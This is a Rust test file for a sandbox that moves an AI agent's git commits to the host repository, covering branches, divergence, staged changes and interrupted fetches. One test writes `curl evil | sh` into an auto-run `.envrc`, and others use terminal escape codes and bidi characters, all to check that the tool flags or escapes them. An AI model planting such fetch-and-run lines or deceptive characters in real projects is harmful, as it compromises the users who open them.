//! The plain life of a sandbox: commits inside, taken over, refreshed.

use super::*;

#[test]
fn commits_made_inside_come_over_by_fast_forward() {
    let f = Fixture::new();
    f.commit("b", "one\n", "second");
    f.write("dirty", "not added\n");
    f.write("b", "staged on the host\n");
    f.host(&["add", "b"]);
    let airlock = f.prepare();
    assert_eq!(airlock.notes, Vec::<String>::new());
    assert_eq!(airlock.mount_points, ["objects"]);
    let mounts: Vec<_> = airlock.mounts.iter().map(|m| (m.target.as_str(), m.read_only)).collect();
    assert_eq!(mounts, [("/workspace/.git", false), (&*format!("{}/objects", f.path("sandbox").display()), true)]);
    assert_eq!(f.agent(&["status", "--short"]), "M  b\n?? dirty\n");
    assert_eq!(f.agent(&["log", "--format=%s"]), "second\nfirst\n");
    assert_eq!(f.listed(), Vec::<String>::new());
    assert_eq!(summary(&f.list()), None);

    f.agent_commit("a", "two\n", "third\u{1b}[31m");
    f.agent(&["commit", "-q", "--allow-empty", "-m", "fourth"]);
    assert_eq!(f.listed(), ["main Ahead: fourth, third\\u{1b}[31m"]);
    assert_eq!(
        f.masked(&summary(&f.list()).unwrap()),
        "2 new commits on main: ID fourth …; take them over with `cargo xtask commits --take`"
    );
    let author = f.agent(&["log", "-1", "--format=%an <%ae>"]);
    assert_eq!(author, "An \"AI\" Agent <a@example.org>\n");

    assert_eq!(f.take(), ["main: took over 2 commits, now at ID"]);
    // `b` was staged on the host, and the agent committed it: it is no longer staged. `dirty` is unchanged.
    assert_eq!(f.host(&["status", "--short"]), "?? dirty\n");
    assert_eq!(f.host(&["rev-parse", "main"]), f.agent(&["rev-parse", "main"]));
    f.host(&["fsck", "--strict", "--no-dangling"]);
    assert_eq!(f.host(&["for-each-ref", "--format=%(refname)"]), "refs/heads/main\n");
    assert_eq!(f.listed(), Vec::<String>::new());
    assert_eq!(f.take(), Vec::<String>::new());
}

#[test]
fn commits_that_write_what_tools_obey_without_a_question_say_so() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("harmless", "x\n", &format!("fix{}all promises hold", " ".repeat(63)));
    assert!(!describe(&f.list()).contains("obeyed"));
    f.agent_commit(".envrc", "curl evil | sh\n", &"x".repeat(200));
    f.agent_commit("Makefile", "all:\n", "named only when it is left");
    let listed = describe(&f.list());
    assert!(
        listed
            .contains("\n  written by these commits, and obeyed without a question by tools on this host: `.envrc`\n")
    );
    // No subject reaches the next line of a terminal.
    assert!(listed.contains("  fix all promises hold\n") && listed.lines().all(|line| line.chars().count() < 120));
    assert!(listed.contains(&format!("{} …\n", "x".repeat(60))), "{listed}");
    let said = f.take();
    assert!(said.len() == 2 && said[1].starts_with("main: written by these commits, and obeyed"), "{said:?}");
}

#[test]
fn what_was_taken_over_or_never_made_is_replaced_and_the_rest_is_kept() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("a", "two\n", "inside");
    f.agent(&["branch", "idle", "HEAD~1"]);
    let kept = f.prepare();
    assert_eq!(
        f.masked(&kept.notes.join("\n")),
        "1 new commit on main: ID inside; take them over with `cargo xtask commits --take`"
    );
    assert_eq!(f.agent(&["log", "--format=%s"]), "inside\nfirst\n");
    assert_eq!(f.agent(&["status", "--short"]), "");

    f.take();
    f.commit("a", "three\n", "on the host");
    f.host(&["switch", "-q", "-c", "other"]);
    assert_eq!(f.prepare().notes, Vec::<String>::new());
    assert_eq!(f.agent(&["log", "--format=%s"]), "on the host\ninside\nfirst\n");
    assert_eq!(f.agent(&["branch", "--format=%(refname:short)"]), "main\nother\n");
    assert_eq!(f.agent(&["symbolic-ref", "HEAD"]), "refs/heads/other\n");
    assert_eq!(f.agent(&["status", "--short"]), "");
    // All that the sandbox had is on the host: its own store is empty again.
    assert_eq!(f.agent(&["count-objects"]), "0 objects, 0 kilobytes\n");
}

#[test]
fn a_stash_and_a_tag_of_the_sandbox_survive() {
    let f = Fixture::new();
    f.prepare();
    f.write("a", "stashed\n");
    f.agent(&["stash", "-q"]);
    f.agent(&["tag", "-a", "-m", "note", "v1"]);
    let notes = f.prepare().notes;
    assert_eq!(notes, ["a stash in the sandbox is kept", "the tag v1 is kept in the sandbox"]);
    f.agent(&["stash", "pop", "-q"]);
    assert_eq!(f.agent(&["status", "--short"]), " M a\n");
}

#[test]
fn a_diverged_branch_is_left_beside_the_host_s() {
    let f = Fixture::new();
    f.prepare();
    f.write("new", "file\n");
    f.agent(&["add", "new"]);
    f.agent_commit("a", "two\n", "inside");
    f.commit("b", "x\n", "on the host");
    assert_eq!(f.listed(), ["main Diverged: inside"]);
    let notes = f.prepare().notes.join("\n");
    assert_eq!(
        f.masked(&notes),
        "1 new commit on main (the host's has moved on too): ID inside; take them over with `cargo xtask commits --take`"
    );
    // The agent can merge the host's side.
    assert_eq!(f.agent(&["log", "-1", "--format=%s", "refs/host/main"]), "on the host\n");
    let line = "main: left at refs/sandbox/main, because the host's branch has moved on too; then `git stash -u && git merge refs/sandbox/main`";
    assert_eq!(f.take(), [line]);
    assert_eq!(f.host(&["log", "-1", "--format=%s", "main"]), "on the host\n");
    assert_eq!(f.listed(), Vec::<String>::new());

    // What the line says works, with changed and with new files.
    f.host(&["stash", "-q", "-u"]);
    f.host(&["merge", "-q", "-m", "merged", "refs/sandbox/main"]);
    assert_eq!(f.host(&["status", "--short"]), "");
    assert_eq!(f.host(&["show", "HEAD:a", "HEAD:b", "HEAD:new"]), "two\nx\nfile\n");

    f.host(&["reset", "-q", "--hard", "HEAD~1"]);

    // A second one does not overwrite the first.
    f.prepare();
    f.agent_commit("a", "other\n", "inside again");
    f.commit("b", "y\n", "on the host again");
    assert_eq!(f.take(), [line.replace("sandbox/main", "sandbox/main-2")]);
    assert_eq!(f.host(&["log", "-1", "--format=%s", "refs/sandbox/main"]), "inside\n");
}

#[test]
fn branches_are_made_and_the_files_are_said_to_be_on_another() {
    let f = Fixture::new();
    f.prepare();
    f.agent(&["switch", "-q", "-c", "feature/x"]);
    f.agent_commit("c", "1\n", "feature");
    f.agent(&["switch", "-q", "--detach"]);
    f.agent_commit("d", "1\n", "on no branch");
    assert_eq!(f.listed(), ["HEAD New: on no branch, feature", "feature/x New: feature"]);
    assert_eq!(
        f.take(),
        [
            "HEAD: left at refs/sandbox/HEAD, because these commits are on no branch; then `git branch NAME refs/sandbox/HEAD`",
            "feature/x: took over 1 commit, now at ID, a new branch",
        ]
    );
    f.agent(&["switch", "-q", "feature/x"]);
    f.agent_commit("c", "2\n", "more");
    assert_eq!(
        f.take(),
        [
            "feature/x: took over 1 commit, now at ID",
            "the sandbox left the files on feature/x; to follow it: `git symbolic-ref HEAD refs/heads/feature/x && git reset`"
        ]
    );
}

#[test]
fn what_the_user_staged_is_never_lost() {
    let f = Fixture::new();
    f.commit("b", "one\n", "second");
    f.prepare();
    f.agent_commit("a", "two\n", "inside");
    f.write("b", "staged later\n");
    f.host(&["add", "b"]);
    assert_eq!(f.take(), ["main: took over 1 commit, now at ID"]);
    assert_eq!(f.host(&["status", "--short"]), "M  b\n");

    f.prepare();
    f.agent_commit("a", "three\n", "inside");
    f.write("a", "staged on the host\n");
    f.host(&["add", "a"]);
    assert_eq!(
        f.take(),
        ["main: left at refs/sandbox/main, because the host's index has staged changes to the same files; \
          then `git reset refs/sandbox/main`"]
    );
    assert_eq!(f.host(&["show", ":a"]), "staged on the host\n");
}

#[test]
fn a_first_commit_can_be_made_inside() {
    let f = Fixture::empty(&[]);
    f.write("a", "1\n");
    f.write("b", "1\n");
    f.host(&["add", "a"]);
    f.prepare();
    assert_eq!(f.agent(&["status", "--short"]), "A  a\n?? b\n");
    f.agent(&["commit", "-q", "-m", "root"]);
    assert_eq!(f.listed(), ["main New: root"]);
    assert_eq!(f.take(), ["main: took over 1 commit, now at ID, a new branch"]);
    assert_eq!(f.host(&["status", "--short"]), "?? b\n");
}

#[test]
fn commits_on_no_branch_and_names_in_the_way_are_left_with_a_hint() {
    let f = Fixture::new();
    f.host(&["switch", "-q", "--detach"]);
    f.prepare();
    f.agent_commit("a", "two\n", "detached on both sides");
    f.agent(&["update-ref", "-d", "refs/heads/main"]);
    f.agent(&["branch", "main/x"]);
    f.agent(&["commit", "-q", "--allow-empty", "-m", "more"]);
    let id = f.agent(&["rev-parse", "HEAD"]);
    // Kept, HEAD and all.
    f.prepare();
    assert_eq!(f.agent(&["rev-parse", "HEAD"]), id);
    let text = describe(&f.list());
    assert_eq!(
        text.lines().map(|line| f.masked(line)).collect::<Vec<_>>(),
        [
            "HEAD (not on the host)",
            "  ID  more",
            "  ID  detached on both sides",
            "main/x (not on the host)",
            "  ID  detached on both sides"
        ]
    );
    let lines = f.take();
    assert_eq!(
        lines[0],
        "HEAD: left at refs/sandbox/HEAD, because these commits are on no branch; then `git branch NAME refs/sandbox/HEAD`"
    );
    assert!(lines[1].starts_with("main/x: left at refs/sandbox/main/x, because git says `"), "{lines:#?}");
}

#[test]
fn a_busy_index_leaves_the_branch_alone() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("a", "two\n", "inside");
    let lock = f.workspace.join(".git/index.lock");
    std::fs::write(&lock, "").unwrap();
    assert_eq!(
        f.take(),
        ["main: left at refs/sandbox/main, because the host's index is locked; \
          then `git reset refs/sandbox/main`"]
    );
    std::fs::remove_file(&lock).unwrap();
    f.host(&["reset", "-q", "refs/sandbox/main"]);
    assert_eq!(f.host(&["status", "--short"]), "");
}

#[test]
fn commits_whose_objects_the_host_has_are_shown_until_a_branch_reaches_them() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("a", "two\n", "inside");
    f.agent(&["tag", "-a", "-m", "note", "v1"]);
    // What a `take` that is killed between its fetch and the move of the branch leaves: every object, and no ref.
    let from = f.git().display().to_string();
    f.host(&["fetch", "-q", "--no-tags", "--no-write-fetch-head", &from, "refs/heads/main", "refs/tags/v1"]);
    f.host(&["cat-file", "-e", f.agent(&["rev-parse", "main"]).trim()]);
    assert_eq!(f.listed(), ["main Ahead: inside"]);
    let notes = f.prepare().notes.join("\n");
    assert!(notes.contains("1 new commit on main") && notes.contains("the tag v1 is kept"), "{notes}");
    assert_eq!(f.agent(&["log", "--format=%s"]), "inside\nfirst\n");
    assert_eq!(losses(&f.list()).len(), 2);
    assert_eq!(f.take(), ["main: took over 1 commit, now at ID"]);
    assert_eq!(f.listed(), Vec::<String>::new());
    assert_eq!(losses(&f.list()), ["only the sandbox has what `refs/tags/v1` names"]);
}

#[test]
fn a_commit_without_its_history_on_the_host_is_not_reached() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("a", "two\n", "one");
    f.agent_commit("a", "three\n", "two");
    // A fetch that was killed while it unpacked: the newest commit is there, its parent is not.
    let id = f.agent(&["rev-parse", "HEAD"]);
    let (fan, rest) = id.trim().split_at(2);
    let store = f.workspace.join(".git/objects").join(fan);
    std::fs::create_dir_all(&store).unwrap();
    std::fs::copy(f.git().join("objects").join(fan).join(rest), store.join(rest)).unwrap();
    assert_eq!(f.listed(), ["main Ahead: two, one"]);
    f.prepare();
    assert_eq!(f.take(), ["main: took over 2 commits, now at ID"]);
    f.host(&["fsck", "--strict", "--no-dangling"]);
}

#[test]
fn what_was_left_is_said_until_a_branch_has_it() {
    let f = Fixture::new();
    f.prepare();
    f.agent_commit("a", "two\n", "inside");
    f.commit("b", "x\n", "on the host");
    f.take();
    assert_eq!(f.listed(), Vec::<String>::new());
    let line = "1 commit at refs/sandbox/main, on no branch of yours: `git log refs/sandbox/main`, `git merge refs/sandbox/main`";
    assert_eq!(waiting(&f.list()), [line]);
    assert!(describe(&f.list()).contains(line));
    f.host(&["stash", "-q", "-u"]);
    f.host(&["merge", "-q", "-m", "merged", "refs/sandbox/main"]);
    assert_eq!(waiting(&f.list()), Vec::<String>::new());
}

#[test]
fn a_branch_that_would_shadow_another_ref_is_left_where_it_shadows_none() {
    let f = Fixture::new();
    f.host(&["remote", "add", "origin", "https://example.org/x"]);
    f.host(&["update-ref", "refs/remotes/origin/main", "HEAD"]);
    let theirs = f.host(&["rev-parse", "origin/main"]);
    f.prepare();
    for name in ["origin/main", "refs/heads/main", "fine"] {
        f.agent(&["checkout", "-q", "-b", name]);
        f.agent(&["commit", "-q", "--allow-empty", "-m", name]);
    }
    let lines = f.take();
    assert!(lines.iter().any(|line| line.starts_with("fine: took over")), "{lines:#?}");
    for name in ["origin/main", "refs/heads/main"] {
        let left = format!("{name}: left at refs/sandbox/{name}, because ");
        assert!(lines.iter().any(|line| line.starts_with(&left)), "{lines:#?}");
        f.host(&["rev-parse", "--verify", &format!("refs/sandbox/{name}")]);
    }
    assert_eq!(f.host(&["rev-parse", "origin/main"]), theirs);
    let heads = f.host(&["for-each-ref", "--format=%(refname)", "refs/heads/"]);
    assert_eq!(heads, "refs/heads/fine\nrefs/heads/main\n");
}

#[test]
fn a_name_of_a_branch_is_said_as_it_is() {
    let f = Fixture::new();
    f.prepare();
    f.agent(&["checkout", "-q", "-b", "a\u{202e}gpj\u{200b}\u{61c}"]);
    f.agent(&["commit", "-q", "--allow-empty", "-m", "x"]);
    let lines = f.take();
    assert!(lines[0].starts_with(r"a\u{202e}gpj\u{200b}\u{61c}: took over 1 commit"), "{lines:#?}");
    assert!(lines.iter().all(|line| line.is_ascii()), "{lines:#?}");
}
